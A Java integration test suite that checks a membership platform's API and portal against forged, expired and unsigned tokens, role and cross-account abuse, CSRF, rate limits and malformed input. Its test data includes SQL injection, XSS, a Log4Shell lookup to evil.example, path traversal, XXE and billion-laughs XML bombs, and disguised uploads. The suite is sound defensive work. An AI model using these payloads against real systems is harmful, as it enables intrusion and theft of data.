package com.canon.cps.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.canon.cps.local.LocalService;
import com.canon.cps.platform.security.Pem;
import com.canon.cps.platform.test.HttpTestClient;
import com.canon.cps.platform.test.TestTokens;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.core.env.Environment;
import tools.jackson.databind.JsonNode;

/**
 * Every endpoint of docs/api.md through the entry point: without a token, with an expired one, one signed by another key,
 * an unsigned ({@code alg: none}) one and garbage; operator endpoints as a member; another member's ids in paths; and
 * a generated suite of hostile and malformed bodies for every write endpoint. Never a 5xx, never a leak; every refusal
 * is a problem document. The suite prints how many cases it tried per endpoint.
 */
class SecurityIT {

    private static final HttpClient CLIENT = HttpClient.newHttpClient();
    private static final Duration WAIT = Duration.ofSeconds(30);

    private static String base;
    private static KeyPair platformKeys;
    private static Member a;
    private static Member b;
    private static String operator;
    private static String productOfA;
    private static String invoiceOfA;
    private static String notificationOfA;
    private static String caseOfA;
    private static String documentOfA;

    private record Member(String email, String token, String accountId) {}

    private record Endpoint(String method, String path, String role) {
        String name() {
            return method + " " + path.replaceAll("[0-9a-f]{8}-[0-9a-f-]{27}", "{id}");
        }
    }

    private static final Map<String, Integer> CASES = new TreeMap<>();
    /** Contact e-mails of refused applications: none of them may have been taken. */
    private static final List<String> REFUSED_EMAILS = new ArrayList<>();

    @BeforeAll
    static void members() {
        base = "http://127.0.0.1:" + SharedPlatform.get().entryPointPort();
        Environment account = SharedPlatform.get().context(LocalService.ACCOUNT).getEnvironment();
        platformKeys = new KeyPair(
                Pem.publicKey(account.getProperty("cps.jwt.public-key")),
                Pem.privateKey(account.getProperty("cps.account.private-key")));
        String run = UUID.randomUUID().toString().substring(0, 8);
        a = member("guard-a-" + run + "@lumen.example");
        b = member("guard-b-" + run + "@lumen.example");
        operator = SharedPlatform.operatorToken();
        HttpTestClient http = SharedPlatform.http();
        for (String model : List.of("EOS-R5-MARK-II", "EOS-R5")) {
            HttpTestClient.Response r = http.postJson(
                    "/api/products",
                    HttpTestClient.json(Map.of(
                            "modelCode", model,
                            "serialNumber", model + "-" + run,
                            "purchaseDate", "2025-06-01",
                            "countryOfPurchase", "GB",
                            "dealer", "Wex Photo")),
                    a.token());
            assertThat(r.status()).as(r.body()).isEqualTo(201);
            productOfA = r.json().path("productId").asString();
        }
        await().atMost(WAIT)
                .until(
                        () -> http.get("/api/membership", a.token())
                                .json()
                                .path("status")
                                .asString(),
                        "INVITED"::equals);
        HttpTestClient.Response bought = http.postJson(
                "/api/membership/checkout",
                HttpTestClient.json(Map.of(
                        "tier", "SILVER",
                        "termsAccepted", true,
                        "termsVersion", "2024-01",
                        "paymentMethod", "BANK_TRANSFER")),
                a.token());
        assertThat(bought.status()).as(bought.body()).isEqualTo(201);
        invoiceOfA = await().atMost(WAIT)
                .until(() -> http.get("/api/invoices", a.token()).json(), j -> j.size() == 1)
                .get(0)
                .path("invoiceId")
                .asString();
        notificationOfA = await().atMost(WAIT)
                .until(() -> http.get("/api/notifications", a.token()).json(), j -> j.size() > 0)
                .get(0)
                .path("id")
                .asString();
        JsonNode cases = http.get("/api/verification/cases?accountId=" + a.accountId(), operator)
                .json();
        caseOfA = cases.get(0).path("caseId").asString();
        documentOfA = cases.get(0).path("documents").get(0).path("documentId").asString();
    }

    private static Member member(String email) {
        String token =
                Journeys.verifiedMember(new HashMap<>(Applications.gbVatLiable("Security Test Ltd", email)), email);
        String accountId = SharedPlatform.http()
                .get("/api/accounts/me", token)
                .json()
                .path("accountId")
                .asString();
        return new Member(email, token, accountId);
    }

    private static List<Endpoint> protectedEndpoints() {
        return List.of(
                new Endpoint("GET", "/api/accounts/me", "MEMBER"),
                new Endpoint("POST", "/api/products", "MEMBER"),
                new Endpoint("GET", "/api/products", "MEMBER"),
                new Endpoint("PATCH", "/api/products/" + productOfA, "MEMBER"),
                new Endpoint("DELETE", "/api/products/" + productOfA, "MEMBER"),
                new Endpoint("GET", "/api/products/migration", "MEMBER"),
                new Endpoint("POST", "/api/products/migration", "MEMBER"),
                new Endpoint("GET", "/api/points", "MEMBER"),
                new Endpoint("GET", "/api/membership/tiers", "MEMBER"),
                new Endpoint("POST", "/api/membership/checkout", "MEMBER"),
                new Endpoint("GET", "/api/membership", "MEMBER"),
                new Endpoint("PATCH", "/api/membership/subscription", "MEMBER"),
                new Endpoint("GET", "/api/invoices", "MEMBER"),
                new Endpoint("GET", "/api/invoices/" + invoiceOfA, "MEMBER"),
                new Endpoint("GET", "/api/invoices/" + invoiceOfA + "/pdf", "MEMBER"),
                new Endpoint("GET", "/api/notifications", "MEMBER"),
                new Endpoint("POST", "/api/notifications/" + notificationOfA + "/read", "MEMBER"),
                new Endpoint("GET", "/api/verification/cases?status=IN_REVIEW", "OPERATOR"),
                new Endpoint("GET", "/api/verification/cases/" + caseOfA, "OPERATOR"),
                new Endpoint("GET", "/api/verification/cases/" + caseOfA + "/documents/" + documentOfA, "OPERATOR"),
                new Endpoint("POST", "/api/verification/cases/" + caseOfA + "/decision", "OPERATOR"),
                new Endpoint("POST", "/api/products/legacy-registrations", "OPERATOR"),
                new Endpoint("POST", "/api/billing/bank-statements", "OPERATOR"),
                new Endpoint("POST", "/api/billing/invoices/" + invoiceOfA + "/mark-paid", "OPERATOR"),
                new Endpoint("POST", "/api/accounts/" + a.accountId() + "/password-setup", "OPERATOR"),
                // GDPR (issue 16): the export is answered by the portal, which passes the caller's token on
                new Endpoint("GET", "/api/accounts/me/export", "MEMBER"),
                new Endpoint("POST", "/api/accounts/me/erasure", "MEMBER"),
                new Endpoint("POST", "/api/accounts/" + a.accountId() + "/erasure", "OPERATOR"),
                new Endpoint("GET", "/admin/account/privacy/key-backup", "OPERATOR"),
                new Endpoint("POST", "/admin/billing/privacy/key-restore", "OPERATOR"));
    }

    /** Issue 16, finding 7: each service's /actuator shows health (status only) and info to anyone, nothing more. */
    @Test
    void actuator_ofEveryService_isHealthAndInfoOnly_forAnonymousCallers() {
        for (LocalService service : LocalService.values()) {
            String port = SharedPlatform.get().context(service).getEnvironment().getProperty("local.server.port");
            HttpTestClient direct = new HttpTestClient("http://127.0.0.1:" + port);
            HttpTestClient.Response health = direct.get("/actuator/health", null);
            assertThat(health.status()).as(service + " health").isIn(200, 503);
            assertThat(health.json().has("components"))
                    .as(service + " health details")
                    .isFalse();
            assertThat(direct.get("/actuator/info", null).status())
                    .as(service + " info")
                    .isEqualTo(200);
            for (String path : List.of("/actuator/prometheus", "/actuator/metrics", "/actuator/env")) {
                assertThat(direct.get(path, null).status()).as(service + path).isIn(401, 404);
                assertThat(direct.get(path, a.token()).status())
                        .as(service + path)
                        .isIn(403, 404);
            }
            assertThat(direct.get("/actuator/prometheus", operator).status())
                    .as(service + " prometheus for an operator")
                    .isEqualTo(200);
        }
    }

    /**
     * Issue 16, finding 6: every endpoint that needs no token has a budget per source, counted from the address the
     * entry point reports (here a documentation address, sent as the trusted entry point would). Invalid requests use
     * it up as well (probing e-mail addresses costs as much as applying); past it a valid application is a 429 with
     * {@code Retry-After} and takes nothing, while another source is served as before.
     */
    @Test
    void anonymousEndpoints_haveABudgetPerSource_andPastItNothingIsTaken() throws Exception {
        String port = SharedPlatform.get()
                .context(LocalService.ACCOUNT)
                .getEnvironment()
                .getProperty("local.server.port");
        String source = "198.51.100." + (1 + new java.util.Random().nextInt(254));
        for (int i = 0; i < 20; i++) {
            assertThat(applyFrom(port, source, "{}").statusCode())
                    .as("request " + (i + 1))
                    .isEqualTo(400);
        }
        String email = "limited-" + UUID.randomUUID() + "@example.com";
        String valid = HttpTestClient.json(withDocument(Applications.gbVatLiable("Limited Ltd", email)));
        HttpResponse<String> refused = applyFrom(port, source, valid);
        assertThat(refused.statusCode()).as(refused.body()).isEqualTo(429);
        assertThat(refused.headers().firstValue("Content-Type"))
                .hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
        assertThat(Long.parseLong(refused.headers().firstValue("Retry-After").orElseThrow()))
                .isBetween(1L, 3600L);
        assertThat(applyFrom(port, "203.0.113.77", "{}").statusCode())
                .as("another source")
                .isEqualTo(400);
        assertThat(applyFrom(port, "203.0.113.77", valid).statusCode())
                .as("the refused application took nothing, not even its e-mail")
                .isEqualTo(201);
    }

    private static HttpResponse<String> applyFrom(String port, String source, String body) throws Exception {
        return CLIENT.send(
                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/accounts"))
                        .header("Content-Type", "application/json")
                        .header("X-Forwarded-For", source)
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void everyProtectedEndpoint_refusesMissingExpiredForeignUnsignedAndGarbageTokens() throws Exception {
        // the key the members' tokens name is published through the entry point (issue 16, finding 8)
        String kid = (String) SharedPlatform.get()
                .context(LocalService.ACCOUNT)
                .getBean(org.springframework.security.oauth2.jwt.JwtDecoder.class)
                .decode(a.token())
                .getHeaders()
                .get("kid");
        JsonNode published =
                SharedPlatform.http().get("/.well-known/jwks.json", null).json();
        assertThat(published.path("keys").get(0).path("kid").asString()).isEqualTo(kid);
        String expired = TestTokens.signedWith(
                platformKeys, a.accountId(), List.of("MEMBER", "OPERATOR"), Duration.ofMinutes(-5));
        String foreign = TestTokens.signedByOtherKey(a.accountId());
        String unsigned = TestTokens.unsigned(a.accountId(), List.of("MEMBER", "OPERATOR"));
        Map<String, String> authorizations = new LinkedHashMap<>();
        authorizations.put("none", null);
        authorizations.put("expired", "Bearer " + expired);
        authorizations.put("other key", "Bearer " + foreign);
        authorizations.put("alg none", "Bearer " + unsigned);
        authorizations.put("garbage", "Bearer not.a.token");
        authorizations.put("basic", "Basic b3BlcmF0b3I6b3BlcmF0b3I=");
        for (Endpoint e : protectedEndpoints()) {
            for (Map.Entry<String, String> auth : authorizations.entrySet()) {
                HttpResponse<String> r = send(e.method(), e.path(), auth.getValue(), "application/json", "{}");
                assertThat(r.statusCode())
                        .as(e.name() + " with " + auth.getKey())
                        .isEqualTo(401);
                assertThat(r.body()).as(e.name() + " leaks nothing").doesNotContain(a.accountId(), a.email());
                count(e.name() + " [auth]");
            }
        }
    }

    @Test
    void operatorEndpoints_refuseMembers_andMembersEndpointsTakeTheAccountFromTheTokenOnly() throws Exception {
        for (Endpoint e : protectedEndpoints()) {
            if (e.role().equals("OPERATOR")) {
                String type = e.path().contains("legacy-registrations")
                        ? "text/csv"
                        : e.path().contains("bank-statements") ? "application/xml" : "application/json";
                HttpResponse<String> r = send(e.method(), e.path(), "Bearer " + a.token(), type, "{}");
                assertThat(r.statusCode()).as(e.name() + " as a member").isEqualTo(403);
                count(e.name() + " [role]");
            }
        }
        // B with A's ids: nothing found, nothing changed
        assertThat(send("GET", "/api/invoices/" + invoiceOfA, "Bearer " + b.token(), null, null)
                        .statusCode())
                .isEqualTo(404);
        assertThat(send("GET", "/api/invoices/" + invoiceOfA + "/pdf", "Bearer " + b.token(), null, null)
                        .statusCode())
                .isEqualTo(404);
        assertThat(send(
                                "PATCH",
                                "/api/products/" + productOfA,
                                "Bearer " + b.token(),
                                "application/json",
                                "{\"dealer\": \"Mallory\"}")
                        .statusCode())
                .isIn(403, 404);
        assertThat(send("DELETE", "/api/products/" + productOfA, "Bearer " + b.token(), null, null)
                        .statusCode())
                .isIn(403, 404);
        assertThat(send("POST", "/api/notifications/" + notificationOfA + "/read", "Bearer " + b.token(), null, null)
                        .statusCode())
                .isIn(403, 404);
        HttpTestClient http = SharedPlatform.http();
        JsonNode productsOfA = http.get("/api/products", a.token()).json();
        assertThat(productsOfA.toString()).contains(productOfA).doesNotContain("Mallory");
        assertThat(http.get("/api/notifications", a.token())
                        .json()
                        .get(0)
                        .path("read")
                        .asBoolean())
                .isFalse();
        // a member naming another account: refused where operators may name one (ADR 19), ignored elsewhere
        HttpTestClient.Response points = http.get("/api/points?accountId=" + a.accountId(), b.token());
        assertThat(points.status()).isEqualTo(403);
        assertThat(points.body()).doesNotContain("\"balance\"");
        HttpTestClient.Response invoices = http.get("/api/invoices?accountId=" + a.accountId(), b.token());
        assertThat(invoices.status()).isEqualTo(403);
        assertThat(invoices.body()).doesNotContain(invoiceOfA);
        HttpTestClient.Response products = http.get("/api/products?accountId=" + a.accountId(), b.token());
        assertThat(products.status()).isEqualTo(403);
        assertThat(products.body()).doesNotContain(productOfA);
        for (String path : List.of("/api/membership", "/api/notifications", "/api/points/history")) {
            HttpTestClient.Response r = http.get(path + "?accountId=" + a.accountId(), b.token());
            assertThat(r.status()).as(path).isEqualTo(403);
        }
        count("cross-member", 8);
    }

    /**
     * The portal's pages (issue 16): without a session every member and back-office page sends to the login; a member's
     * session opens the member's pages but no back-office page; a form posted without the session's CSRF token is
     * refused and changes nothing, here the most harmful one, the account's deletion with the right password.
     */
    @Test
    void portalPages_needTheirSession_theBackOfficeAnOperator_andEveryFormItsCsrfToken() throws Exception {
        List<String> memberPages = List.of(
                "/account",
                "/account/erasure",
                "/account/data-export",
                "/products",
                "/products/new",
                "/subscriptions",
                "/notifications",
                "/invoices/" + invoiceOfA);
        List<String> backOffice = List.of(
                "/back-office",
                "/back-office/verification",
                "/back-office/members/" + a.accountId() + "/data-export",
                "/back-office/invoices",
                "/back-office/operations",
                "/back-office/operators");
        HttpClient anonymous = HttpClient.newBuilder()
                .followRedirects(HttpClient.Redirect.NEVER)
                .build();
        for (String page : concat(memberPages, backOffice)) {
            HttpResponse<String> r = anonymous.send(
                    HttpRequest.newBuilder(URI.create(base + page)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as("GET " + page + " without a session").isEqualTo(302);
            assertThat(r.headers().firstValue("Location").orElse("")).as(page).endsWith("/login");
            count("GET " + page + " [portal session]");
        }

        HttpClient memberBrowser = HttpClient.newBuilder()
                .cookieHandler(new java.net.CookieManager())
                .followRedirects(HttpClient.Redirect.NEVER)
                .build();
        HttpResponse<String> login = postForm(
                memberBrowser,
                "/login",
                Map.of("email", b.email(), "password", Journeys.PASSWORD, "_csrf", csrf(memberBrowser, "/login")));
        assertThat(login.statusCode()).as(login.body()).isEqualTo(302);
        for (String page : List.of("/account", "/account/erasure", "/products")) {
            assertThat(get(memberBrowser, page).statusCode())
                    .as(page + " as the member")
                    .isEqualTo(200);
        }
        for (String page : backOffice) {
            assertThat(get(memberBrowser, page).statusCode())
                    .as(page + " as a member")
                    .isEqualTo(403);
            count("GET " + page + " [portal role]");
        }
        HttpResponse<String> erasureByAMember = postForm(
                memberBrowser,
                "/back-office/members/" + a.accountId() + "/erasure",
                Map.of(
                        "reason", "forged",
                        "confirmed", "true",
                        "_csrf", csrf(memberBrowser, "/account")));
        assertThat(erasureByAMember.statusCode())
                .as("the back office's erasure with the member's own CSRF token")
                .isEqualTo(403);
        assertThat(Journeys.login(a.email(), Journeys.PASSWORD).status()).isEqualTo(200);
        assertThat(anonymous
                        .send(
                                HttpRequest.newBuilder(URI.create(base + "/account/erased"))
                                        .build(),
                                HttpResponse.BodyHandlers.ofString())
                        .statusCode())
                .as("the goodbye page is public")
                .isEqualTo(200);
        count("POST /back-office/members/{id}/erasure [portal role]");
        HttpResponse<String> forged = postForm(
                memberBrowser, "/account/erasure", Map.of("password", Journeys.PASSWORD, "understood", "true"));
        assertThat(forged.statusCode())
                .as("the deletion without the CSRF token")
                .isEqualTo(403);
        assertThat(get(memberBrowser, "/account").statusCode()).isEqualTo(200);
        assertThat(Journeys.login(b.email(), Journeys.PASSWORD).status())
                .as("the member is still there")
                .isEqualTo(200);
        count("POST /account/erasure [csrf]");
    }

    private static List<String> concat(List<String> first, List<String> second) {
        List<String> all = new ArrayList<>(first);
        all.addAll(second);
        return all;
    }

    private HttpResponse<String> get(HttpClient browser, String page) throws Exception {
        return browser.send(
                HttpRequest.newBuilder(URI.create(base + page)).build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The CSRF token of the form on {@code page}, as the browser would send it back. */
    private String csrf(HttpClient browser, String page) throws Exception {
        java.util.regex.Matcher token = java.util.regex.Pattern.compile("name=\"_csrf\"\\s+value=\"([^\"]+)\"")
                .matcher(get(browser, page).body());
        assertThat(token.find()).as("a CSRF token on " + page).isTrue();
        return token.group(1);
    }

    private HttpResponse<String> postForm(HttpClient browser, String page, Map<String, String> fields)
            throws Exception {
        String body = fields.entrySet().stream()
                .map(f -> java.net.URLEncoder.encode(f.getKey(), java.nio.charset.StandardCharsets.UTF_8) + "="
                        + java.net.URLEncoder.encode(f.getValue(), java.nio.charset.StandardCharsets.UTF_8))
                .collect(java.util.stream.Collectors.joining("&"));
        return browser.send(
                HttpRequest.newBuilder(URI.create(base + page))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void hostileAndMalformedBodies_getA4xxProblem_neverA5xx_andStoreNothing() throws Exception {
        String email = "hostile-" + UUID.randomUUID().toString().substring(0, 8) + "@lumen.example";
        Map<String, Object> application = new LinkedHashMap<>(Applications.gbVatLiable("Hostile Ltd", email));
        // a VAT-liable applicant gives a VAT ID or an invoice (the seed): the template has both, so either may go
        hostile(
                "POST",
                "/api/accounts",
                null,
                application,
                List.of("vatLiable", "authorisedToApply"),
                List.of("evidenceDocumentIds", "vatId"));
        hostile(
                "POST",
                "/api/accounts/password",
                null,
                Map.of("token", "x".repeat(40), "password", "Abcdef-12345"),
                List.of());
        hostile("POST", "/api/auth/login", null, Map.of("email", "nobody@lumen.example", "password", "x"), List.of());
        hostile(
                "POST",
                "/api/products",
                b.token(),
                Map.of(
                        "modelCode",
                        "NO-SUCH-MODEL",
                        "serialNumber",
                        "S-1",
                        "purchaseDate",
                        "2025-06-01",
                        "countryOfPurchase",
                        "GB",
                        "dealer",
                        "Wex"),
                List.of());
        hostile(
                "POST",
                "/api/membership/checkout",
                b.token(),
                Map.of(
                        "tier",
                        "SILVER",
                        "autoRenew",
                        true,
                        "termsAccepted",
                        true,
                        "termsVersion",
                        "2024-01",
                        "paymentMethod",
                        "CARD",
                        "cardToken",
                        "tok_visa"),
                List.of());
        hostile("PATCH", "/api/membership/subscription", b.token(), Map.of("autoRenew", false), List.of());
        hostile(
                "POST",
                "/api/verification/cases/" + caseOfA + "/decision",
                operator,
                Map.of("decision", "NOT-A-DECISION", "reason", "x"),
                List.of());
        hostile(
                "POST",
                "/api/billing/invoices/" + UUID.randomUUID() + "/mark-paid",
                operator,
                Map.of("note", "x"),
                List.of());
        xmlBombs();
        uploads();

        // nothing was stored: B has no products, membership or invoices, and refused applications took no e-mail
        HttpTestClient http = SharedPlatform.http();
        assertThat(http.get("/api/products", b.token()).json().size()).isZero();
        assertThat(http.get("/api/membership", b.token()).json().path("status").asString())
                .isEqualTo("NONE");
        assertThat(http.get("/api/invoices", b.token()).json().size()).isZero();
        assertThat(REFUSED_EMAILS).hasSizeGreaterThan(50);
        java.util.Collections.shuffle(REFUSED_EMAILS);
        for (String refused : REFUSED_EMAILS.subList(0, 5)) {
            Map<String, Object> retry = new HashMap<>(withDocument(application));
            retry.put("contactEmail", refused);
            HttpTestClient.Response applied = http.postJson("/api/accounts", HttpTestClient.json(retry), null);
            assertThat(applied.status())
                    .as("a refused application took nothing: " + applied.body())
                    .isEqualTo(201);
        }

        StringBuilder report = new StringBuilder("Security suite, cases per endpoint:\n");
        CASES.forEach(
                (k, v) -> report.append("  ").append(v).append("  ").append(k).append('\n'));
        report.append("  total ")
                .append(CASES.values().stream().mapToInt(Integer::intValue).sum());
        System.out.println(report);
    }

    // ---- the generated hostile inputs ----------------------------------------------------------------------------

    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1' --",
            "\"; DROP TABLE account_email; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "../../../../etc/passwd",
            "%00%0d%0aSet-Cookie: x=y",
            "\u202Egnp.exe",
            "Ω≈ç√∫ Łódź 😀",
            "\\u0000 null \u0000 byte");

    private static final List<String> MALFORMED = List.of(
            "",
            "{",
            "}",
            "[]",
            "null",
            "42",
            "\"just a string\"",
            "{\"a\":}",
            "{'single': 'quotes'}",
            "{\"a\": 1,}",
            "[".repeat(5000) + "]".repeat(5000),
            "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
            "\uFEFF{}",
            "{\"bad-surrogate\": \"\\ud800\"}");

    /**
     * For a write endpoint: malformed documents, the valid template with each field replaced by wrong types, nulls,
     * huge values and injection strings, the template sent with a lying content type, and an oversized body.
     */
    private void hostile(
            String method, String path, String token, Map<String, Object> template, List<String> mustBeTrue)
            throws Exception {
        hostile(method, path, token, template, mustBeTrue, List.of());
    }

    /** @param optional fields whose absence ({@code null}) is valid input */
    private void hostile(
            String method,
            String path,
            String token,
            Map<String, Object> template,
            List<String> mustBeTrue,
            List<String> optional)
            throws Exception {
        String auth = token == null ? null : "Bearer " + token;
        String name = method + " " + path.replaceAll("[0-9a-f]{8}-[0-9a-f-]{27}", "{id}");
        for (String body : MALFORMED) {
            expect4xx(name, send(method, path, auth, "application/json", body), "malformed " + abbreviate(body));
        }
        for (String field : template.keySet()) {
            List<Object> values = new ArrayList<>(List.of(12345, 1.5e308, true, List.of(1, 2), Map.of("x", 1)));
            values.add(null);
            values.add("x".repeat(20_000));
            values.addAll(INJECTIONS);
            for (Object value : values) {
                Map<String, Object> body = new LinkedHashMap<>(template);
                body.put(field, value);
                String email = null;
                if (body.containsKey("contactEmail") && !field.equals("contactEmail")) {
                    email = "refused-" + UUID.randomUUID().toString().substring(0, 12) + "@lumen.example";
                    body.put("contactEmail", email);
                }
                HttpResponse<String> r = send(method, path, auth, "application/json", HttpTestClient.json(body));
                if (email != null && r.statusCode() >= 400) {
                    REFUSED_EMAILS.add(email);
                }
                String what = field + "=" + abbreviate(String.valueOf(value));
                assertThat(r.statusCode())
                        .as(name + " " + what + ": " + r.body())
                        .isLessThan(500);
                boolean wrongType = !java.util.Objects.equals(value, template.get(field))
                        && (!(value instanceof String) || mustBeTrue.contains(field))
                        && !(value == null && optional.contains(field));
                if (wrongType || r.statusCode() >= 400) {
                    expect4xx(name, r, what);
                }
                count(name);
            }
        }
        String json = HttpTestClient.json(template);
        expect4xx(name, send(method, path, auth, "text/plain", json), "text/plain");
        expect4xx(name, send(method, path, auth, "application/xml", json), "application/xml");
        expect4xx(
                name,
                send(method, path, auth, "application/json", "{\"pad\": \"" + "x".repeat(6_000_000) + "\"}"),
                "6 MB body");
    }

    private void xmlBombs() throws Exception {
        String name = "POST /api/billing/bank-statements";
        String auth = "Bearer " + operator;
        List<String> bodies = List.of(
                "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;"
                        + "&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"
                        + "&lol2;&lol2;\">]><Document><BkToCstmrStmt><Stmt><Id>&lol3;</Id></Stmt></BkToCstmrStmt>"
                        + "</Document>",
                "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Document>&x;</Document>",
                "<Document><BkToCstmrStmt>",
                "not xml",
                "<a>" + "<b>".repeat(10_000) + "</b>".repeat(10_000) + "</a>",
                "{\"json\": true}");
        for (String body : bodies) {
            HttpResponse<String> r = send("POST", "/api/billing/bank-statements", auth, "application/xml", body);
            expect4xx(name, r, abbreviate(body));
            assertThat(r.body()).doesNotContain("root:");
            if (body.contains("<!DOCTYPE")) {
                // refused by the XML parser itself (its DOCTYPE ban), not before it by the role or the media type
                assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
                assertThat(r.body()).contains("Bank statements with a DOCTYPE (DTD) are refused");
            }
        }
    }

    private void uploads() throws Exception {
        String name = "POST /api/verification/documents";
        HttpTestClient http = SharedPlatform.http();
        Object[][] cases = {
            {
                "evidence.pdf",
                "application/pdf",
                "MZ\u0090\u0000 not a pdf".getBytes(StandardCharsets.ISO_8859_1),
                "VAT_CERTIFICATE"
            },
            {"evidence.pdf", "application/pdf", new byte[0], "VAT_CERTIFICATE"},
            {"evidence.pdf", "application/pdf", "%PDF-1.4 ok".getBytes(StandardCharsets.US_ASCII), "NOT_A_TYPE"},
            {
                "<script>.pdf",
                "text/html",
                "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8),
                "VAT_CERTIFICATE"
            },
            {"big.pdf", "application/pdf", pdfOf(10 * 1024 * 1024 + 1), "VAT_CERTIFICATE"},
        };
        for (Object[] c : cases) {
            HttpTestClient.Response r = http.postMultipart(
                    "/api/verification/documents",
                    (String) c[0],
                    (String) c[1],
                    (byte[]) c[2],
                    Map.of("type", (String) c[3]),
                    null);
            assertThat(r.status()).as(name + " " + c[0] + ": " + r.body()).isBetween(400, 499);
            count(name);
        }
        HttpResponse<String> noFile =
                send("POST", "/api/verification/documents", null, "multipart/form-data; boundary=xyz", "--xyz--\r\n");
        expect4xx(name, noFile, "no parts");
    }

    private static byte[] pdfOf(int size) {
        byte[] bytes = new byte[size];
        byte[] head = "%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(head, 0, bytes, 0, head.length);
        return bytes;
    }

    // ---- helpers ---------------------------------------------------------------------------------------------------

    private static Map<String, Object> withDocument(Map<String, Object> application) {
        HttpTestClient.Response upload = SharedPlatform.http()
                .postMultipart(
                        "/api/verification/documents",
                        "evidence.pdf",
                        "application/pdf",
                        "%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII),
                        Map.of("type", "VAT_CERTIFICATE"),
                        null);
        Map<String, Object> body = new HashMap<>(application);
        body.put("evidenceDocumentIds", List.of(upload.json().path("documentId").asString()));
        return body;
    }

    private static void expect4xx(String name, HttpResponse<String> r, String what) {
        assertThat(r.statusCode())
                .as(name + " " + what + ": " + abbreviate(r.body()))
                .isBetween(400, 499);
        assertThat(r.headers().firstValue("Content-Type").orElse(""))
                .as(name + " " + what + " answers a problem document")
                .startsWith("application/problem+json");
        count(name);
    }

    private static HttpResponse<String> send(
            String method, String path, String authorization, String contentType, String body) throws Exception {
        HttpRequest.Builder request =
                HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30));
        if (authorization != null) {
            request.header("Authorization", authorization);
        }
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        HttpRequest.BodyPublisher publisher = body == null
                ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8);
        return CLIENT.send(request.method(method, publisher).build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String abbreviate(String s) {
        String one = s == null ? "null" : s.replace('\n', ' ');
        return one.length() > 60 ? one.substring(0, 60) + "…(" + one.length() + ")" : one;
    }

    private static synchronized void count(String name) {
        count(name, 1);
    }

    private static synchronized void count(String name, int n) {
        CASES.merge(name, n, Integer::sum);
    }
}
